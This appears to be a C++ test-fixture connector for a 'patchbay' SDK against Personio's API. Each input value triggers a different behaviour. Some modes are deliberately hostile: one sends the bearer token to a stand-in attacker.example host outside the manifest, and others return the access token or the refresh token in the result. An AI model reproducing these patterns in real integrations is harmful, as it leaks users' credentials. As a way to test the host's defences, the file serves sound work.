// A connector with an action of its own, `acting_act`. Its input says how it goes: well, or wrong
// in one of many ways. Links by client credentials at Personio's sandbox.
#include <cstdlib>
#include <memory>
#include <string_view>
#include <utility>

#include "patchbay/sdk/client_credentials.h"
#include "patchbay/sdk/export.h"
#include "patchbay/sdk/json.h"
#include "patchbay/sdk/static_credentials.h"

namespace {

using namespace patchbay::sdk;

constexpr std::string_view kPersons = "https://api.personio.de/v2/persons";

class Connect : public ClientCredentialsFlow {
 public:
  explicit Connect(Input input)
      : ClientCredentialsFlow(
            std::move(input),
            {.endpoint = {.url = "https://api.personio.de/v2/auth/token", .token_name = "main"}}) {}
};

class Act : public Flow {
 public:
  explicit Act(Input input) : Flow(std::move(input)) {
    const JsonDocument arguments(this->input().arguments_json());
    how_ = keep().text(json_text(arguments.object(), "how").value_or(""));
  }

 protected:
  void step(const Event& event, Action& action) override {
    if (event.kind() == EventKind::start) {
      begin(action);
    } else if (how_ == "never_end") {
      action.wait(100);
    } else if (how_ == "write_then_read" && ++answers_ == 1) {
      send(action.get(kPersons));
    } else {
      end(event.reply(), action);
    }
  }

 private:
  void begin(Action& action) {
    if (how_ == "read") {
      send(action.get(kPersons));
    } else if (how_ == "write" || how_ == "write_then_read") {
      send(action.post(kPersons).body("application/json", "{}"));
    } else if (how_ == "mint") {
      send(action.post(kPersons).mints());
    } else if (how_ == "leave_the_manifest") {
      send(action.get("https://attacker.example/"));
    } else if (how_ == "ask") {
      action.ask({"code"}, "ask.code");
    } else if (how_ == "never_end") {
      action.wait(100);
    } else {
      decide_at_once(action);
    }
  }

  void decide_at_once(Action& action) {
    if (how_ == "crash") std::abort();
    if (how_ == "tell_a_secret") {
      const std::string_view secret = token();
      action.done().result_json(action.arena().text("{\"told\":\"", secret, "\"}"));
    } else if (how_ == "tell_what_it_has") {
      action.done().result_json(action.arena().text(
          "{\"action\":\"", input().action(), "\",\"user\":\"", input().field("client_id"),
          "\",\"refresh_token\":\"", input().secret("refresh_token"), "\"}"));
    } else if (how_ == "no_json") {
      action.done().result_json("{'it': 'is not'}");
    } else if (how_ == "nothing") {
      action.done();
    } else {
      action.fail(Failure::permission, "error.denied").permission("things:read");
    }
  }

  void end(const Reply& reply, Action& action) {
    if (failed_in_transit(action, reply, "api.personio.de")) return;
    if (reply.status() == 401) {
      action.fail(Failure::credentials, "error.denied");
    } else if (!reply.ok()) {
      fail_unexpected_status(action, reply, "api.personio.de");
    } else {
      action.done().result_json(action.arena().text(
          "{\"status\":", decimal(action.arena(), std::int64_t{reply.status()}), "}"));
    }
  }

  void send(Request& request) { request.bearer(token()); }
  std::string_view token() {
    const Token* token = input().token("main");
    return token == nullptr ? std::string_view() : token->value;
  }

  std::string_view how_;
  int answers_ = 0;
};

class Acting : public Flows<Connect, Connect, NothingToDoFlow> {
 public:
  using Flows::Flows;
  std::unique_ptr<Flow> invoke(Input input) const {
    return std::make_unique<Act>(std::move(input));
  }
};

}  // namespace

PATCHBAY_CONNECTOR(Acting, embedded_manifest())
